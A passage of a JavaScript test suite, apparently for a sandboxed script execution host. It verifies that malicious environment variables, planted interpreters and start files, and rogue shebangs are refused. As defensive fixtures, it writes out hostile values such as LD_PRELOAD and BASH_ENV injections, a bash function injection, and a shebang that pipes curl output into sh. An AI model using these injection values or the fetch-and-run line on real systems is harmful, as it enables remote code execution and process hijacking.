        'for a in "$@"; do printf "%s\\0" "$a"; done | od -An -c | wc -c; echo $#',
        { args },
      );
      expect(bash.stdout.trim().split("\n").at(-1)).toBe(String(args.length));
      host.write({ "skill/scripts/a.mjs": "console.log(JSON.stringify(process.argv.slice(2)))" });
      expect(JSON.parse((await host.run("a.mjs", { args })).stdout)).toEqual(args);
    });

    it("X-03 refuses arguments that no process can get", async () => {
      const host = newHost();
      host.write({ "skill/scripts/a.py": "print(1)", "skill/scripts/long.py": "print(1)" });
      const receipt = await host.run("a.py", { args: ["a\0b"] });
      expect(receipt.failure?.code).toBe("arguments-invalid");
    });

    it("X-05 passes on no variable that starts something", async () => {
      const host = newHost();
      host.write({ "skill/scripts/a.sh": "env" });
      const evil = join(host.root, "evil");
      const env = {
        LD_PRELOAD: evil,
        NODE_OPTIONS: "--no-warnings",
        BASH_ENV: evil,
        PYTHONPATH: evil,
        PERL5OPT: "-d",
        GIT_SSH: evil,
        PATH: `${evil}:/usr/bin:/bin`,
        HTTPS_PROXY: "http://evil.test",
        ENV: evil,
        "BASH_FUNC_x%%": "() { evil; }",
        GLIBC_TUNABLES: "glibc.malloc.check=1",
      };
      const receipt = await host.run("a.sh", {}, { env });
      expect(receipt.ok, receipt.stderr).toBe(true);
      expect(receipt.stdout).toContain("\nPATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin\n");
      for (const name of Object.keys(env).filter((each) => each !== "PATH")) {
        expect(receipt.stdout).not.toContain(`${name}=`);
      }
      expect(receipt.stdout).not.toContain("evil");
    });

    it("X-03 takes no program, module or start file from the working directory", async () => {
      const host = newHost();
      const evil = "open('/tmp/evil', 'w').close(); print('EVIL')";
      host.write({
        "work/python3": "#!/bin/sh\necho EVIL",
        "work/bash": "#!/bin/sh\necho EVIL",
        "work/json.py": evil,
        "work/sitecustomize.py": evil,
        "work/usercustomize.py": evil,
        "work/.bashrc": "echo EVIL",
        "work/package.json": '{"type":"commonjs"}',
        "work/node_modules/x/index.js": "console.log('EVIL')",
        "home/.bashrc": "echo EVIL",
      });
      spawnSync("chmod", ["755", join(host.work, "python3"), join(host.work, "bash")]);
      expect((await host.python("import json; print(json.dumps(1))")).stdout).toBe("1\n");
      expect((await host.bash("echo fine")).stdout).toBe("fine\n");
      expect((await host.bash("echo fine", { stdin: "x" })).stdout).toBe("fine\n");
      host.write({ "skill/scripts/a.mjs": "import('x').catch((e) => console.log(e.code))" });
      expect((await host.run("a.mjs")).stdout).toBe("ERR_MODULE_NOT_FOUND\n");
    });

    it("X-03 a first line chooses only among known programs", async () => {
      const host = newHost();
      host.write({
        "skill/scripts/evil": "#!/tmp/evil\necho EVIL",
        "skill/scripts/relative": "#!./evil\necho EVIL",
        "skill/scripts/split": "#!/usr/bin/env -S curl http://x | sh\n",
        "skill/scripts/flags.sh": "#!/bin/bash -c evil\necho EVIL",
        "skill/scripts/binary": "\u007fELF",
        "skill/scripts/elsewhere": "#!/tmp/evil/python3\nprint('system python')",
        "skill/scripts/crlf": "#!/usr/bin/env python3\r\nprint('crlf')\r\n",
        "skill/scripts/strict.sh": "#!/bin/bash -eu\nfalse\necho EVIL",
      });
      for (const script of ["evil", "relative", "split", "flags.sh", "binary"]) {
        const receipt = await host.run(script);
        expect(receipt.failure?.code, script).toBe("interpreter-unknown");
        expect(receipt.command).toEqual([]);
      }
      expect((await host.run("elsewhere")).stdout).toBe("system python\n");
      expect((await host.run("crlf")).stdout).toBe("crlf\n");
      expect(await host.run("strict.sh")).toMatchObject({ exitCode: 1, stdout: "" });
    });

    it("X-05 runs at the same time share nothing", async () => {
      const host = newHost();
      host.write({
        "skill/scripts/a.py": `import os, sys, time
open("mine", "w").write(sys.argv[1]); open("/tmp/mine", "w").write(sys.argv[1]); time.sleep(0.3)
print(open("mine").read() + open("/tmp/mine").read(), len(os.listdir(".")))`,
      });
      const names = ["a", "b", "c", "d"];
      const receipts = await Promise.all(
        names.map((name) => host.run("a.py", { args: [name], cwd: "fresh" })),
      );
      expect(receipts.map(({ stdout }) => stdout)).toEqual(names.map((n) => `${n}${n} 1\n`));
    });
  });

  it("X-05 leaves nothing behind", async () => {
    const host = newHost();
    const runs = join(host.root, "runs");
    mkdirSync(runs);
    host.own();
    await host.python("print(1)", { writable: ["."] }, { options: { temporaryDirectory: runs } });
    expect(readdirSync(runs)).toEqual([]);
    expect(readdirSync(host.work).sort()).toEqual([".env", "data.txt"]);
  });
});

describe("without a sandbox", () => {
  it("X-06 a sandbox outside of the system's folders is not taken, and nothing runs", async () => {
    const host = new ExecutionHost(bundle, { user: "this user" });
    host.write({ "bin/bwrap": "#!/bin/sh\ntouch ran\n", "skill/scripts/a.py": "print(1)" });
    spawnSync("chmod", ["755", join(host.root, "bin/bwrap")]);
    // Where bwrap is missing: the same system without that one file.
    const hidden = ["--dev-bind", "/", "/", "--ro-bind", "/dev/null", "/usr/bin/bwrap"];
    const receipt = await host.run(
      "a.py",
      {},
      {
        within: ["/usr/bin/bwrap", ...hidden, "--chdir", host.work, "--"],
        env: { PATH: `${join(host.root, "bin")}:.:/usr/bin` },
      },
    );
    expect(receipt.failure?.code).toBe("sandbox-missing");
    expect(receipt.failure?.hint).toContain("apt-get install -y bubblewrap");
    expect(receipt.command).toEqual([]);
    expect(existsSync(join(host.work, "ran"))).toBe(false);
  });
});
